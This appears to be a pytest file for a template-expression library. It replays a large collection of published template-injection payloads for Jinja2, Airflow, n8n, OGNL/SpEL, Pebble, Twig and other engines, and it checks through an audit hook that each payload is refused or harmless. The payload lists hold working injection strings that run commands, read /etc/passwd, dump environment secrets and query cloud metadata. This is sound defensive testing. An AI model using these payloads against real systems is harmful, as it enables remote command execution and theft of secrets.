"""Published attacks on template languages, replayed: each is refused, or gives nothing but text and numbers.

The families are those that were published for Jinja2, Airflow, n8n, OGNL, SpEL, Pebble, Twig, FreeMarker, Velocity, Mako,
Handlebars, Nunjucks, Liquid, Thymeleaf, Smarty and EL.
"""

import sys
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import date

import pytest

from pauta.errors import ExpressionError
from pauta.expression import Dialect, MapScope, Template, catalog

JINJA = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ {}.__class__.__bases__[0].__subclasses__()[133].__init__.__globals__['system']('id') }}",
    "{{ ().__class__.__bases__[0].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].popen('id').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ url_for.__globals__['current_app'].config }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ config.items() }}",
    "{{ config.from_pyfile('/tmp/evil.cfg') }}",
    "{{ request['__class__'] }}",
    "{{ request['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ request | attr('__class__') }}",
    "{{ request | attr(['__', 'class', '__'] | join) }}",
    "{{ request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('id')['read']() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c }}{% endif %}{% endfor %}",
    "{% set x = ''.__class__ %}{{ x.__mro__ }}",
    "{{ ''.format.__globals__ }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(inputs) }}",
    "{{ '{0.__class__}' | format(inputs) }}",
    "{{ '%s' % inputs.__class__ }}",
    "{{ inputs.name.format_map(inputs) }}",
    "{% import 'os' as os %}{{ os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% from 'os' import system %}{{ system('id') }}",
    "{% autoescape false %}{{ inputs.__class__ }}{% endautoescape %}",
    "{{ (1).__class__.__base__ }}",
    "{{ inputs.mro() }}",
    "{{ inputs.items.__self__ }}",
    "{{ inputs.name.__doc__ }}",
    "{{ inputs.name.encode.__call__ }}",
    "{{ dict(__class__=1) }}",
    "{{ ''['__class__'] }}",
    "{{ []['__class__']['__base__'] }}",
    "{{ loop.__class__ }}",
    "{{ range.__class__ }}",
    "{{ _context.__class__ }}",
]
AIRFLOW = [
    "{{ macros.datetime.__class__.__mro__ }}",
    "{{ ti.xcom_pull.__globals__ }}",
    "{{ dag.__class__.__init__.__globals__['os'].system('id') }}",
    "{{ conf.get('database', 'sql_alchemy_conn') }}",
    "{{ var.value.get.__func__.__globals__ }}",
    "{{ task.render_template.__func__.__globals__['sys'].exit(1) }}",
    "{{ params.__class__.__subclasses__ }}",
    "{{ macros.uuid.os.system('id') }}",
    "{{ ''.__class__.mro()[1].__subclasses__()[59].__init__.__globals__.linecache.os.popen('id') }}",
]
N8N = [
    "{{ $json.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
    "{{ (function(){ return this.process.mainModule.require('child_process').execSync('id').toString() })() }}",
    "{{ this.constructor.constructor('return process.env')() }}",
    "{{ ''.constructor.constructor('return global')() }}",
    "{{ [].filter.constructor('return process')() }}",
    "{{ {}.__proto__.polluted }}",
    "{{ inputs.constructor.prototype }}",
    "{{ inputs['constructor']['constructor']('return this')() }}",
    "{{ (() => process.env)() }}",
    "{{ `${process.env.SECRET}` }}",
    "{{ Object.getPrototypeOf(inputs) }}",
    "{{ Reflect.ownKeys(globalThis) }}",
    "{{ new Function('return 1')() }}",
    "{{ eval('1+1') }}",
    "{{ require('child_process').exec('id') }}",
    "{{ process.binding('spawn_sync') }}",
    "{{ inputs.toString.call(inputs) }}",
    "{{ inputs.valueOf.constructor }}",
    "{{ inputs.name.constructor.fromCharCode(65) }}",
    "{{ Error.prepareStackTrace }}",
]
OGNL_SPEL = [
    "{{ T(java.lang.Runtime).getRuntime().exec('id') }}",
    "{{ T(java.lang.System).getenv() }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{ \"#{T(java.lang.Runtime).getRuntime().exec('id')}\" }}",
    "{{ new java.lang.ProcessBuilder('id').start() }}",
    "{{ @java.lang.Runtime@getRuntime().exec('id') }}",
    "%{(#rt=@java.lang.Runtime@getRuntime()).exec('id')}",
    "{{ (#_memberAccess['allowStaticMethodAccess']=true) }}",
    "{{ #this.getClass().forName('java.lang.Runtime') }}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "{{ ''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id') }}",
    "{{ inputs.class.classLoader.loadClass('java.lang.Runtime') }}",
    "{{ inputs.getClass().getClassLoader() }}",
    "{{ ''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1') }}",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}",
    "{{ beans.get('org.springframework.core.env.Environment') }}",
    "{{ request.getServletContext().getClassLoader() }}",
    "{{ session.getAttribute('x').getClass() }}",
]
PEBBLE = [
    "{{ inputs.name.getClass() }}",
    "{{ inputs.name.class }}",
    "{{ (1).TYPE }}",
    "{{ 1.TYPE.forName('java.lang.Runtime') }}",
    "{{ ''.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ bytes }}",
    "{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([1]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('ls -la') }}",
    "{% set x = inputs.getClass().forName('java.lang.System') %}{{ x.getenv() }}",
    "{{ inputs.name.wait() }}",
    "{{ inputs.name.notify() }}",
    "{{ inputs.name.toString().getClass() }}",
    "{{ inputs.many.iterator().getClass() }}",
    "{{ inputs.many.stream().map(x) }}",
    "{{ inputs.name.chars().getClass() }}",
    "{{ inputs.name.intern().getDeclaredMethods() }}",
    "{{ inputs.put('a', 1) }}",
    "{{ inputs.many.add(1) }}",
    "{{ inputs.many.clear() }}",
    "{{ inputs.many.forEach(x) }}",
    "{{ [1, 2].getClass().getModule() }}",
    "{% cache 'x' %}{{ ''.getClass() }}{% endcache %}",
    "{% parallel %}{{ ''.getClass() }}{% endparallel %}",
    "{% embed 'x' %}{% endembed %}",
    "{% flush %}",
    "{{ inputs.name | className | className }}",
    "{{ locale.getClass() }}",
    "{{ template.engine.loader }}",
    "{{ _context.context.engine }}",
]
TWIG_AND_OTHERS = [
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}",
    "{{ ['id'] | filter('system') }}",
    "{{ ['id', ''] | sort('system') }}",
    "{{ ['id'] | map('passthru') | join }}",
    "{{ [0, 'id'] | reduce('system') }}",
    "{{ '/etc/passwd' | file_excerpt(1, 30) }}",
    "{{ app.request.server.all | join }}",
    "{{ dump(app) }}",
    "{{ source('/etc/passwd') }}",
    "{{ constant('PHP_VERSION') }}",
    "{{ include(template_from_string('{{ 1 }}')) }}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "<%import os%>${os.popen('id').read()}",
    "${self.module.cache.util.os.system('id')}",
    "{{#with 's' as |string|}}{{#with 'e'}}{{lookup string.sub 'constructor'}}{{/with}}{{/with}}",
    "{{ range.constructor('return global.process')() }}",
    "{{ cycler.constructor('return process')() }}",
    "{% liquid assign x = 'a' %}",
    "{php}system('id');{/php}",
    "{{ smarty.template_object }}",
    "{{ 'id' | system }}",
    "{{ 'id' | exec }}",
    "{{ exec('id') }}",
    "{{ system('id') }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ __import__('os').system('id') }}",
    "{{ globals() }}",
    "{{ vars.__builtins__ }}",
    "{{ getattr(inputs, '__class__') }}",
    "{{ lambda: 1 }}",
    "{{ [x for x in inputs] }}",
    "{{ inputs.name[:1] }}",
    "{{ inputs.name; import os }}",
    "{{ 1 if inputs else 2 }}",
    "{{ render('{{ inputs.__class__ }}') }}",
    "{{ render(inputs.template) }}",
    "{{ fromJson('{\"__class__\": 1}').__init__ }}",
    "{{ yaml('!!python/object/apply:os.system [\"id\"]') }}",
    "{{ yaml('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]') }}",
    "{{ fromIon('$ion_1_0 {{ aGk= }}') }}",
    "{{ 'x' | replace({'x': '$0${inputs}'}, true) }}",
    "{{ read('/etc/passwd') }}",
    "{{ read('file:///etc/passwd') }}",
    "{{ http('http://169.254.169.254/latest/meta-data') }}",
    "{{ secret('SECRET') }}",
    "{{ kv('x') }}",
    "{{ 'now' | date('yyyy', timeZone='../../etc/passwd') }}",
    "{{ '2026-01-01' | date('yyyy', locale='../../etc/passwd') }}",
    "{{ [1] | jq('env') }}",
    "{{ [1] | jq('input_filename') }}",
    "{{ '%n%n%n%s' | numberFormat('%s') }}",
]
PAYLOADS = [*JINJA, *AIRFLOW, *N8N, *OGNL_SPEL, *PEBBLE, *TWIG_AND_OTHERS]

PLAIN = {"name": "Ada", "many": [1, 2, 3], "map": {"a": 1}, "template": "{{ ''.__class__ }}"}
ROOTS = (
    "inputs", "vars", "request", "self", "config", "cycler", "joiner", "namespace", "lipsum", "url_for", "loop", "range",
    "get_flashed_messages", "macros", "ti", "dag", "conf", "var", "task", "params", "this", "process", "Object", "beans",
    "Reflect", "java", "T", "session", "variable", "locale", "template", "_self", "app", "product", "smarty", "x", "Error",
)  # fmt: skip
CONTEXTS = {
    "as a flow has it": {"inputs": PLAIN, "vars": PLAIN},
    "every name is a map": dict.fromkeys(ROOTS, PLAIN),
    "every name is a text": dict.fromkeys(ROOTS, "text"),
    "every name is a list": {name: [1, "a", {"b": 2}] for name in ROOTS},
    "every name is a number": dict.fromkeys(ROOTS, 7),
}
EVIDENCE = (
    "<class",
    "<module",
    "<function",
    "<built-in",
    "object at 0x",
    "root:x:",
    "uid=",
    "Traceback",
    "/usr/lib/python",
)
FORBIDDEN = (
    "os.",
    "subprocess.",
    "socket.",
    "open",
    "exec",
    "compile",
    "import",
    "ctypes.",
    "pickle.",
    "shutil.",
    "pty.",
)

_heard: list[str] = []
_listening: list[bool] = []


def _listen(event: str, _arguments: object) -> None:
    if _listening and event.startswith(FORBIDDEN):
        _heard.append(event)


@pytest.fixture(scope="module", autouse=True)
def _audited() -> None:
    """Python tells what the interpreter does; everything that is loaded late is loaded before."""
    catalog.everything()
    sys.addaudithook(_listen)


@contextmanager
def nothing_happens() -> Iterator[None]:
    _heard.clear()
    _listening.append(True)
    try:
        yield
    finally:
        _listening.clear()
    assert _heard == []


def is_plain(value: object) -> bool:
    if isinstance(value, dict):
        return all(is_plain(key) and is_plain(each) for key, each in value.items())
    if isinstance(value, list | tuple):
        return all(map(is_plain, value))
    return value is None or isinstance(value, str | int | float | bool | bytes | date)


def test_there_are_enough_payloads():
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 150


def test_the_audit_hears_what_it_must_not_hear():
    with pytest.raises(AssertionError), nothing_happens():
        compile("1", "", "eval")


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_refused_or_harmless(payload, context):
    scope = MapScope(CONTEXTS[context])
    before = repr(CONTEXTS[context])
    for dialect in Dialect:
        with suppress(ExpressionError):
            Template(payload, dialect).render(scope)  # loads what is loaded when it is first used
        with nothing_happens():
            refused = False
            try:
                text, value = Template(payload, dialect).render(scope), Template(payload, dialect).evaluate(scope)
            except ExpressionError as error:
                refused, text, value = True, str(error.reason), None
        assert is_plain(value)
        assert refused or not any(sign in text for sign in EVIDENCE)
    assert repr(CONTEXTS[context]) == before
